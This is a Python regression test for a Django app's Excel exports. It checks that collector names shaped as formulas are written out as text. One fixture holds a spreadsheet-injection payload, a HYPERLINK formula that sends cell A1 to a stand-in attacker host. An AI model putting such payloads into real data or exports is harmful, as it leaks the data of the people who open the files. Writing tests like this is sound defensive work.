"""Attack (issue #15, hole 5): a collector named =HYPERLINK(…) became a live
formula in the dashboards' Excel exports. Text cells are written as the
registry exports write them (households.resources.neutralise): as text."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'


@pytest.mark.parametrize("page, export", [("performance", "collectors"), ("network", "quiet"),
                                          ("training", "flags")])
def test_a_collectors_name_that_is_a_formula_is_exported_as_text(client, world, page, export):
    world.c1.full_name = FORMULA
    world.c1.save()
    world.c2.full_name = "@SUM(1+1)"
    world.c2.save()
    client.force_login(world.staff)
    response = client.get(reverse(f"admin:reports_{page}"), {"export": export, "end": "05/2026"})
    sheet = load_workbook(BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells}
    assert "'" + FORMULA in texts and "'@SUM(1+1)" in texts
